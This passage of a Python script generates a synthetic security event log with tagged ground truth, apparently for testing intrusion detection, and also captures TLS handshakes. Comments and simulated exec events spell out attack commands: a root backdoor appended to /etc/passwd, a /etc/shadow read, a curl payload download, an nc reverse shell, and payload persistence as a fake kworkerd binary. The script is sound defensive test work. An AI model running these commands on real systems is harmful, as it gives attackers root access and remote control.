        parent: str = "bash/crawler",
        tag: str | None = None,
        read_tag: str | None = None,
    ) -> int:
        s.at(t, s.exec, key, parent, binary, args, tag=tag)
        tt = t + j(700, 1300) * US
        for i, (path, perm, n) in enumerate(reads):
            for k in range(n):
                s.at(tt, s.file_access, key, path, perm, 4, tag=read_tag if i == k == 0 else None)
                tt += j(60, 140) * US
        tt += j(300, 800) * US
        s.at(tt, s.exit, key, status=status)
        return tt

    t = T0 + 560 * SEC + 114 * MS
    command(
        t,
        "id/crawler",
        "/usr/bin/id",
        "",
        [("/etc/passwd", "-rw-r--r--", 1), ("/etc/group", "-rw-r--r--", 1)],
        read_tag="distractor:passwd-read",
    )
    t = T0 + 571 * SEC + 502 * MS
    command(
        t,
        "cat-passwd/crawler",
        "/usr/bin/cat",
        "/etc/passwd",
        [("/etc/passwd", "-rw-r--r--", 2)],
        read_tag="distractor:passwd-read",
    )
    # echo 'backdoor:x:0:0::/root:/bin/bash' >> /etc/passwd   (a bash builtin: bash itself writes)
    s.at(T0 + 598 * SEC + 207 * MS, s.file_access, "bash/crawler", "/etc/passwd", "-rw-r--r--", 2, tag="passwd-write")
    t = T0 + 609 * SEC + 655 * MS
    command(
        t,
        "cat-shadow/crawler",
        "/usr/bin/cat",
        "/etc/shadow",
        [("/etc/shadow", "-rw-r-----", 2)],
        read_tag="distractor:shadow-read",
    )
    # curl -sk https://dl.example.net/k.sh -o /tmp/.k
    t = T0 + 641 * SEC + 19 * MS
    s.at(t, s.exec, "curl/crawler", "bash/crawler", "/usr/bin/curl", "-sk https://dl.example.net/k.sh -o /tmp/.k")
    s.at(t + j(29, 35) * MS, s.connect, "curl/crawler", "198.51.100.201", 443)
    s.at(t + j(205, 215) * MS, s.file_access, "curl/crawler", "/tmp/.k", "-rw-r--r--", 2, tag="distractor:tmp-write")
    s.at(t + j(218, 225) * MS, s.exit, "curl/crawler")
    # nc 203.0.113.7 4444 -e /bin/sh: nc (ncat) connects, then forks /bin/sh with the socket as its stdio
    t = T0 + 687 * SEC + 880 * MS
    s.at(t, s.exec, "nc/crawler", "bash/crawler", "/usr/bin/nc", "203.0.113.7 4444 -e /bin/sh")
    s.at(t + j(1500, 2300) * US, s.connect, "nc/crawler", "203.0.113.7", 4444, tag="reverse-shell-connect")
    t_sh = t + j(46, 52) * MS
    s.at(t_sh, s.exec, "sh/nc", "nc/crawler", "/bin/sh", "", tag="late-shell:reverse-shell-sh")
    command(t_sh + 4 * SEC + j(100, 900) * MS, "uname/nc", "/usr/bin/uname", "-a", [], parent="sh/nc")
    command(
        t_sh + 9 * SEC + j(100, 900) * MS,
        "whoami/nc",
        "/usr/bin/whoami",
        "",
        [("/etc/passwd", "-rw-r--r--", 1)],
        parent="sh/nc",
        read_tag="distractor:passwd-read",
    )
    t_end = t_sh + 31 * SEC + j(0, 999) * MS
    s.at(t_end, s.exit, "sh/nc")
    s.at(t_end + j(2, 4) * MS, s.exit, "nc/crawler")

    # chmod +x /tmp/.k; /tmp/.k: the downloaded payload runs from /tmp (the shell -> download -> exec chain),
    # copies itself below /usr/local/bin and runs the copy (the write -> exec chain). Scheduled without
    # s.at's noise: every draw before s.run() would shift the jitter of every earlier line of the log.
    def later(t: int, fn: Callable[..., None], *args: Any, **kw: Any) -> None:
        s.actions.append((t, len(s.actions), fn, args, kw))

    t = T0 + 726 * SEC + 402 * MS
    later(t, s.exec, "chmod/crawler", "bash/crawler", "/bin/chmod", "+x /tmp/.k")
    later(t + 2 * MS, s.exit, "chmod/crawler")
    later(t + 31 * MS, s.exec, "k/crawler", "bash/crawler", "/tmp/.k", "", tag="chain:payload-from-tmp")
    later(t + 38 * MS, s.exec, "cp/k", "k/crawler", "/bin/cp", "/tmp/.k /usr/local/bin/kworkerd")
    later(t + 39 * MS, s.file_access, "cp/k", "/usr/local/bin/kworkerd", "-rwxr-xr-x", 2, tag="chain:write-bin-dir")
    later(t + 40 * MS, s.exit, "cp/k")
    later(t + 44 * MS, s.exec, "kworkerd/k", "k/crawler", "/usr/local/bin/kworkerd", "", tag="chain:exec-written")
    later(t + 46 * MS, s.exit, "k/crawler")
    later(T0 + 759 * SEC + 611 * MS, s.exit, "kworkerd/k")
    s.at(T0 + 760 * SEC + 318 * MS, s.exit, "bash/crawler")

    s.run()
    return s


# --------------------------------------------------------------------------- TLS handshakes (regeneration)

# node's default TLS 1.2 cipher list (TLS 1.3 suites are OpenSSL's defaults, in node's order too)
NODE_CIPHERS = (
    "ECDHE-RSA-AES128-GCM-SHA256:ECDHE-ECDSA-AES128-GCM-SHA256:ECDHE-RSA-AES256-GCM-SHA384:"
    "ECDHE-ECDSA-AES256-GCM-SHA384:DHE-RSA-AES128-GCM-SHA256:ECDHE-RSA-AES128-SHA256:"
    "DHE-RSA-AES128-SHA256:ECDHE-RSA-AES256-SHA384:DHE-RSA-AES256-SHA384:ECDHE-RSA-AES256-SHA256:"
    "DHE-RSA-AES256-SHA256:HIGH:!aNULL:!eNULL:!EXPORT:!DES:!RC4:!MD5:!PSK:!SRP:!CAMELLIA"
)

# what each server of the story accepts, and what the handshake must end with
SERVERS = [
    {
        "sni": "jobs.example.com",
        "max_version": "TLSv1_3",
        "suites": None,
        "ciphers": None,
        "expect": ("TLSv1.3", "TLS_AES_256_GCM_SHA384"),
        "weak": None,
    },
    {
        "sni": "careers.example.org",
        "max_version": "TLSv1_3",
        "suites": "TLS_CHACHA20_POLY1305_SHA256:TLS_AES_256_GCM_SHA384:TLS_AES_128_GCM_SHA256",
        "ciphers": None,
        "expect": ("TLSv1.3", "TLS_CHACHA20_POLY1305_SHA256"),
        "weak": None,
    },
    {
        "sni": "search.example.net",
        "max_version": "TLSv1_2",
        "suites": None,
        "ciphers": "ECDHE-RSA-AES128-GCM-SHA256",
        "expect": ("TLSv1.2", "ECDHE-RSA-AES128-GCM-SHA256"),
        "weak": None,
    },
    {
        "sni": "legacy-feed.example.org",
        "max_version": "TLSv1_2",
        "suites": None,
        "ciphers": "AES128-SHA",
        "expect": ("TLSv1.2", "AES128-SHA"),
        "weak": "RSA key exchange (no forward secrecy); CBC mode with HMAC-SHA1",
    },
]

# Fallback when the cryptography package is missing: a throw-away self-signed RSA-2048 certificate made for
# this script (CN "tetrapipe scenario test server", SANs = the four SNIs above). Test data, not a secret.
FALLBACK_CERT = """\
-----BEGIN CERTIFICATE-----
MIIDSTCCAjGgAwIBAgICfnowDQYJKoZIhvcNAQELBQAwNjE0MDIGA1UEAwwrdGV0
cmFwaXBlIHNjZW5hcmlvIHRlc3Qgc2VydmVyICh0aHJvdy1hd2F5KTAeFw0yNjAz
MDEwMDAwMDBaFw0yNzAzMDEwMDAwMDBaMDYxNDAyBgNVBAMMK3RldHJhcGlwZSBz
Y2VuYXJpbyB0ZXN0IHNlcnZlciAodGhyb3ctYXdheSkwggEiMA0GCSqGSIb3DQEB
AQUAA4IBDwAwggEKAoIBAQDo0bK/vcr4Xl/tOTWt8VkpVaxAc1HQ1Nb+DSBkyXcO
BU/vTqgG66GW1E63aeqiuxyOVWcl/Enknj9ReCF3UaeN0bwz7kevgZ742B9OYk4i
LyX5kkuTpVwKbhq0fIeT/zEEl9knVhlbrb35zg9cc9u8Mf7MBqdigqdYe/Wr0aBJ
K/VzZVTmwmQQbaUTrL3+1ljwnWRTI91hNohqKThAWECv4via/ZBB8xctSZO9PZPa
giStdN6KBvnySC4f1G+sMIzW5VnJLs0+3fOmSNc63xwBDPOJjmkCumv/wGyKbCn3
4v1BNYvLf71Lq94IMbILZfHguMw6JY4668+iZwLcb1OHAgMBAAGjYTBfMF0GA1Ud
EQRWMFSCEGpvYnMuZXhhbXBsZS5jb22CE2NhcmVlcnMuZXhhbXBsZS5vcmeCEnNl
YXJjaC5leGFtcGxlLm5ldIIXbGVnYWN5LWZlZWQuZXhhbXBsZS5vcmcwDQYJKoZI
hvcNAQELBQADggEBALOxJo5MzM6qtb6QA/TGSI/BIvlSsgyHnAU9QSY1YWroyRIf
JngeEl2mfze7bvZuPblL9nSbcKOeNI/cH4tcjP7xH5PPtK+N1xfOoj3O1TABGZo9
jqRIipD1Ys9VzfjppNUN9+wnpTMnL9Ll4QZ3xfrcd+sw9xKQpjJibK/dMFKUvw6U
ggWHKlm3OVYBOMGiOws7m1FPxxf4/Bf0jD1AY0HVVSFfn7rZnNDEMy9da8AfrvnF
vuT1EXH3xcfkCnm8gEs43vMZBkBFIyCKp5oWBf1jHvJ0XHkZLv8+RYLRSDFn1mf9
8AyzfzH4YykOi7BxDkhTffP1OhXi+lrI9Np94fc=
-----END CERTIFICATE-----
"""
FALLBACK_KEY = """\
-----BEGIN PRIVATE KEY-----
MIIEvgIBADANBgkqhkiG9w0BAQEFAASCBKgwggSkAgEAAoIBAQDo0bK/vcr4Xl/t
OTWt8VkpVaxAc1HQ1Nb+DSBkyXcOBU/vTqgG66GW1E63aeqiuxyOVWcl/Enknj9R
eCF3UaeN0bwz7kevgZ742B9OYk4iLyX5kkuTpVwKbhq0fIeT/zEEl9knVhlbrb35
zg9cc9u8Mf7MBqdigqdYe/Wr0aBJK/VzZVTmwmQQbaUTrL3+1ljwnWRTI91hNohq
KThAWECv4via/ZBB8xctSZO9PZPagiStdN6KBvnySC4f1G+sMIzW5VnJLs0+3fOm
SNc63xwBDPOJjmkCumv/wGyKbCn34v1BNYvLf71Lq94IMbILZfHguMw6JY4668+i
ZwLcb1OHAgMBAAECggEAG5VQlKfzRqbDvbLD+dY4xo1oaYBgJpo42IOMnXRC/y3A
8SzD+oHrNJf1tYQ+cMYzVWen31e7F3NqNAhECsNpUwOQxSRLaO81+ux8FQjPkfw9
Bwr+mkECnRe7YTvJwk5/K7ij2SW5vmNguRphNoZhd7QCqIB3T1QEaJbTHeapk1GA
mjK7PezrqLaeiiFSArijj9bRt20q9bl3Tfb37l6hDkSmVhGjfvvG/7hwtv/z740h
/NRqbkDEfGvQhXwOb9/wekzHse+QOYYLS/msilx57kGhO0Fh9fb+mZKzlS1dnvcX
ApsmhNmUtl6zKGgLl5mYC77Y9DpN6VzzOvS0kOM7pQKBgQD3ICWhY9H3qZy3TDoc
vmfJwSUaM5sNnVlXp4grUeiEBMaMJFPpBtfPNYDK47te0UpMRVt5Gbgs1A4X2Hkq
Izkazcj7/zVe/pBXPVbU5Gc3QjFVpQzJxff1amTo3UqEl1hpj9YmWNzvdxj5LQFt
D4g3nh3O//oP1gJZ5wSPzTtutQKBgQDxLgfRbVaMCFA0EGqQXo/iG219Zps2gUQS
/Xj6bHsherQVuiu4UnULSR/tjEDHeYN+ulj0daBDfiDdzoiGvJHRix8rRVuxtMNJ
8yzpGP6AtIUFHFrO+9eP74Fs5csFwXOMPCxnNjKWLXtaIQeuyBif7Ac5mAdSBtn6
JRcgoUCiywKBgQCy5LCY/ju2/y+VeTbwK93SLWGAcC8kUe2lCIAIbAjX2OUp+fpM
TEnZlC+hr+2pm/Qe9m5bYgTzXqa9GFXN7SWfg6ykz4CBPeKbZKoA/z7Av8ga6Zoy
Tn9LRzO5ZshU54J3GEq8A8QcDakkaDIKEx5WtL17Zc5NvGyDTDr/JmCJqQKBgGTa
F8DWlONXspoi5zzZnhcx2vYeSvde1KWQQt+NL2wPkHCpehDIwlLm0CgYhxoi0P7U
U9Bdw5eVjY7TB7o37k4OfAkvJqnH6gXpXzVWE06krh81/S8ilsCEqb1s1hnhDD1v
CC5ctoigGj3VJA5NdCajn13RGfaOEOaOTf6CD7JDAoGBAIsShm5zosKBKc2suvI+
cOuqp7BrZdiW3iME7lEkHdFh0HUfvtYGTfzBbXRSP+tKsBuJiM5fI6Jhr8WpyG8D
pLAQHu58BSopLPeVLoE1kZcVX1Qow2IrXQZTrU+KiBEQTz3u/90/w0h27WdRtKO/
3Waq9xqyy1UMUgBsfExtugwZ
-----END PRIVATE KEY-----
"""


def make_cert(directory: Path) -> tuple[Path, Path, str]:
    cert, key = directory / "cert.pem", directory / "key.pem"
    try:
        from cryptography import x509
        from cryptography.hazmat.primitives import hashes, serialization
        from cryptography.hazmat.primitives.asymmetric import rsa
        from cryptography.x509.oid import NameOID
    except ImportError:
        cert.write_text(FALLBACK_CERT)
        key.write_text(FALLBACK_KEY)
        return cert, key, "embedded fallback certificate"
    k = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "tetrapipe scenario test server (throw-away)")])
    start = dt.datetime(2026, 3, 1, tzinfo=UTC)
    c = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(k.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(start)
        .not_valid_after(start + dt.timedelta(days=365))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName(srv["sni"]) for srv in SERVERS]), critical=False)
        .sign(k, hashes.SHA256())
    )
    cert.write_bytes(c.public_bytes(serialization.Encoding.PEM))
    key.write_bytes(
        k.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    return cert, key, "self-signed RSA-2048 certificate generated with the cryptography package"


def set_tls13_suites(ctx: ssl.SSLContext, suites: str) -> None:
    """The ssl module cannot choose TLS 1.3 suites: call OpenSSL's SSL_CTX_set_ciphersuites on the context."""
    import ctypes

    libs = sorted(set(re.findall(r"(/\S*libssl\.so[.\d]*)", Path("/proc/self/maps").read_text())))
    if not libs:
        raise RuntimeError("libssl is not mapped in this process: cannot set TLS 1.3 suites")
    lib = ctypes.CDLL(libs[0])
    lib.SSL_CTX_set_ciphersuites.argtypes = [ctypes.c_void_p, ctypes.c_char_p]
    # PySSLContext is {PyObject_HEAD; SSL_CTX *ctx; ...}
    ptr = ctypes.c_void_p.from_address(id(ctx) + object.__basicsize__).value
    if lib.SSL_CTX_set_ciphersuites(ptr, suites.encode()) != 1:
        raise RuntimeError(f"SSL_CTX_set_ciphersuites({suites!r}) failed")


def pump(obj: ssl.SSLObject) -> bool:
    try:
        obj.do_handshake()
        return True
    except ssl.SSLWantReadError:
        return False


def capture_one(srv: dict, cert: Path, key: Path) -> dict:
    client = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    client.check_hostname = False
    client.verify_mode = ssl.CERT_NONE
    client.set_ciphers(NODE_CIPHERS)
    server = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    server.load_cert_chain(cert, key)
    server.maximum_version = getattr(ssl.TLSVersion, srv["max_version"])
    server.options |= ssl.OP_CIPHER_SERVER_PREFERENCE
    if srv["ciphers"]:
        try:
            server.set_ciphers(srv["ciphers"])
        except ssl.SSLError:
            server.set_ciphers(srv["ciphers"] + ":@SECLEVEL=0")
    if srv["suites"]:
        set_tls13_suites(server, srv["suites"])
    c_in, c_out, s_in, s_out = (ssl.MemoryBIO() for _ in range(4))
    c = client.wrap_bio(c_in, c_out, server_hostname=srv["sni"])
    s_ = server.wrap_bio(s_in, s_out, server_side=True)

    pump(c)
    client_hello = c_out.read()  # 1. client -> server: ClientHello
    s_in.write(client_hello)
    pump(s_)
    server_hello = s_out.read()  # 2. server -> client: ServerHello ... (first flight)
    c_in.write(server_hello)
    done = pump(c)
    client_flight2 = c_out.read()  # 3. client -> server: (ClientKeyExchange,) ChangeCipherSpec, Finished
    s_in.write(client_flight2)
    if not pump(s_):
        raise RuntimeError("server handshake did not finish")
    server_flight2 = s_out.read()  # 4. TLS 1.2: NewSessionTicket, CCS, Finished; TLS 1.3: tickets
    if not done:
        c_in.write(server_flight2)
        if not pump(c):
            raise RuntimeError("client handshake did not finish")
    request = (
        f"GET /api/v1/postings?page=1 HTTP/1.1\r\nHost: {srv['sni']}\r\n"
        "User-Agent: tenant-jobs-crawler/1.4\r\nAccept: application/json\r\nConnection: close\r\n\r\n"
    ).encode()
    c.write(request)
    client_request = c_out.read()  # 5. application data
    s_in.write(client_request)
    assert s_.read(4096) == request
    body = b'{"postings":[],"next":null}'
    response = (
        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: "
        + str(len(body)).encode()
        + b"\r\nConnection: close\r\n\r\n"
        + body
    )
    s_.write(response)
    server_response = s_out.read()  # 6. application data
    if done:  # TLS 1.3: the client has not seen the tickets yet
        c_in.write(server_flight2)
    c_in.write(server_response)
    assert c.read(4096) == response

    version, cipher = c.version(), c.cipher()[0]
    if (version, cipher) != srv["expect"] or (s_.version(), s_.cipher()[0]) != srv["expect"]:
        raise RuntimeError(f"{srv['sni']}: negotiated {version} {cipher}, expected {srv['expect']}")
    code = next(x["id"] & 0xFFFF for x in client.get_ciphers() if x["name"] == cipher)
    # the ServerHello names the same suite: record(5) type(1) len(3) version(2) random(32) session id
    sid_len = server_hello[5 + 4 + 2 + 32]
    at = 5 + 4 + 2 + 32 + 1 + sid_len
    if int.from_bytes(server_hello[at : at + 2], "big") != code:
        raise RuntimeError(f"{srv['sni']}: the ServerHello does not carry suite {code:#06x}")
    out = {
        "sni": srv["sni"],
        "negotiated_version": version,
        "negotiated_cipher": cipher,
        "cipher_code": code,
        "weak": srv["weak"] is not None,
    }
    if srv["weak"]:
        out["weak_reason"] = srv["weak"]
    out.update(
        {
            "client_hello_b64": b64(client_hello),
            "server_hello_b64": b64(server_hello),
            "client_flight2_b64": b64(client_flight2),
            "server_flight2_b64": b64(server_flight2),
            "client_request_b64": b64(client_request),
            "server_response_b64": b64(server_response),
        }
    )
    return out


def regenerate_handshakes() -> None:
    with tempfile.TemporaryDirectory() as tmp:
        cert, key, how = make_cert(Path(tmp))
        conns = [capture_one(srv, cert, key) for srv in SERVERS]
    doc = {
        "about": (
            "Real TLS flights between a Python ssl client (node's default cipher list) and a Python ssl "
            "server, over in-memory BIOs, in-process; made by compose.py --regenerate-handshakes. "
            "negotiated_version / negotiated_cipher: what the ssl module reported on both ends; "
            "cipher_code: the IANA suite number (also checked in the ServerHello). Flights, in socket "
            "order: client_hello, server_hello (the server's whole first flight), client_flight2, "
            "server_flight2 (TLS 1.2: ticket, ChangeCipherSpec, Finished; TLS 1.3: session tickets), "
            "client_request, server_response (encrypted HTTP)."
        ),
        "openssl": ssl.OPENSSL_VERSION,
        "python": sys.version.split()[0],
        "certificate": how,
        "connections": conns,
    }
    HANDSHAKES.write_text(json.dumps(doc, indent=1) + "\n")


# --------------------------------------------------------------------------- main


def write_log(s: Scenario) -> list[tuple[int, dict, str | None]]:
    ordered = sorted(s.events, key=lambda e: (e[0], e[1]))
    lines = [json.dumps(e[2], separators=(",", ":"), ensure_ascii=False) for e in ordered]
    LOG.write_text("\n".join(lines) + "\n")
    return [(n, e[2], e[3]) for n, e in enumerate(ordered, 1)]


def summary(rows: list[tuple[int, dict, str | None]]) -> None:
    kinds = Counter(next(iter(ev)) for _, ev, _ in rows)
    print(f"{LOG.name}: {len(rows)} events: " + ", ".join(f"{k} {n}" for k, n in kinds.most_common()))
    for n, ev, tag in rows:
        if tag:
            body = next(iter(ev.values()))
            proc = body["process"]
            pod = proc.get("pod", {}).get("name", "-")
            print(f"  line {n:3d}  {tag:40s} {pod:32s} {proc['binary']} {body.get('function_name', '')}")


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument(
        "--regenerate-handshakes",
        action="store_true",
        help="capture new TLS handshakes into handshakes.json first (new random bytes)",
    )
    ap.add_argument("--summary", action="store_true", help="print event kinds and the tagged ground-truth lines")
    opts = ap.parse_args()
    if opts.regenerate_handshakes:
        regenerate_handshakes()
    if not HANDSHAKES.exists():
        sys.exit(f"{HANDSHAKES} is missing: run with --regenerate-handshakes")
    handshakes = json.loads(HANDSHAKES.read_text())["connections"]
    rows = write_log(compose(handshakes))
    if opts.summary:
        summary(rows)


if __name__ == "__main__":
    main()
